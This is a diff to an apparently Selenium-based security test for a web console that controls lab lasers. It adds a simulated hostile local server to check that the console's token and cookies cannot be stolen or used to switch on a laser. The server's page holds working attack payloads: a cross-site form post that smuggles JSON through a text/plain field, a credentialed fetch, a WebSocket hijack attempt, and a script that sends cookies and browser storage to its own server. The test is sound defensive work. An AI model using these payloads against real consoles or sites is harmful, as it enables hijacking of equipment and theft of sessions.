@@ -4,6 +4,7 @@ against the real server (uvicorn, WebSocket) on the small simulated bench."""
 from __future__ import annotations
 
 import contextlib
+import http.server
 import json
 import threading
 import time
@@ -179,7 +180,7 @@ def test_a_procedure_from_the_page(served: tuple[Console, str], browser: webdriv
     report.click()
     browser.switch_to.window(browser.window_handles[-1])
     until(lambda: browser.title == "Laser power sweep")  # the run's report.html
-    assert browser.current_url.endswith("/api/procedures/report") and "<table" in browser.page_source
+    assert "/api/procedures/report?token=" in browser.current_url and "<table" in browser.page_source
 
 
 def test_a_live_page_keeps_the_light_on_and_a_closed_one_does_not(bench_profile_path: Path, tmp_path: Path,
@@ -200,3 +201,76 @@ def test_a_live_page_keeps_the_light_on_and_a_closed_one_does_not(bench_profile_
         until(lambda: not laser_channel(2)["emission"], timeout_s=10)
         assert time.monotonic() - left < 2.5
         until(lambda: any("dead-man" in line for line in console.events))
+
+
+class OtherServer(http.server.ThreadingHTTPServer):
+    """Another web server on this computer (another port): it records every request the browser sends it, and its
+    page tries to move the console's laser from the browser (a form post, fetch with credentials, a WebSocket)."""
+
+    def __init__(self, console_port: int) -> None:
+        self.seen: list[str] = []
+        self.console = f"127.0.0.1:{console_port}"
+        super().__init__(("127.0.0.1", 0), _Recording)
+        self.url = f"http://127.0.0.1:{self.server_address[1]}"
+
+
+class _Recording(http.server.BaseHTTPRequestHandler):
+    server: OtherServer
+
+    def _record(self) -> None:
+        body = self.rfile.read(int(self.headers.get("content-length") or 0))
+        self.server.seen.append(f"{self.requestline}\n{self.headers}\n{body.decode('latin-1')}")
+        console = self.server.console
+        page = f"""<!doctype html><title>other</title><body><form id="f" method="post" target="sink"
+            action="http://{console}/api/laser/green/emission" enctype="text/plain"><input name='{{"on": true, "x": "'
+            value='"}}'></form><iframe name="sink"></iframe><img src="/pixel.png"><script>
+            document.getElementById("f").submit();
+            fetch("http://{console}/api/laser/green/power", {{method: "POST", credentials: "include", mode: "no-cors",
+                  body: '{{"power": "30mW"}}'}}).catch(() => 0);
+            const ws = new WebSocket("ws://{console}/ws");
+            ws.onopen = () => ws.send("heartbeat");
+            fetch("/echo", {{method: "POST", credentials: "include", body: document.cookie + "|" +
+                  JSON.stringify(localStorage) + "|" + JSON.stringify(sessionStorage)}})
+              .finally(() => setTimeout(() => {{ document.title = "done"; }}, 1500));
+            </script></body>"""
+        data = page.encode()
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.send_header("content-length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    do_GET = do_POST = _record
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def test_another_local_server_never_receives_what_moves_the_laser(served: tuple[Console, str],
+                                                                  browser: webdriver.Chrome) -> None:
+    """The operator opens the console, uses it, then visits a page of another web server on this computer (cookies
+    ignore ports: round 4's cookie carried the token there). Nothing that server receives, and nothing its page
+    does in the browser, can move the laser."""
+    console, url = served
+    connected(browser, url)
+    row = browser.find_element(By.ID, "laser-green")
+    row.find_element(By.CLASS_NAME, "setpoint").clear()
+    row.find_element(By.CLASS_NAME, "setpoint").send_keys("3mW")
+    row.find_element(By.CLASS_NAME, "set").click()
+    until(lambda: laser_channel(2)["setpoint_w"] == pytest.approx(0.003))  # the page works, with its token
+    other = OtherServer(int(url.split(":")[2].split("/")[0]))
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    try:
+        browser.switch_to.new_window("tab")  # the console's page stays open beside it
+        browser.get(other.url + "/")
+        until(lambda: browser.title == "done")
+        until(lambda: len(other.seen) >= 3)  # the page, its image and what its script could read
+    finally:
+        other.shutdown()
+        other.server_close()
+    received = "\n".join(other.seen)
+    assert "GET / HTTP" in received and "POST /echo" in received and "|{}|{}" in received, received
+    assert TOKEN not in received, received
+    assert "benchctl" not in received.lower(), received  # no cookie, no header of the console's
+    assert not laser_channel(2)["emission"] and laser_channel(2)["setpoint_w"] == pytest.approx(0.003)
+    assert not any("emission ON" in line for line in console.events)
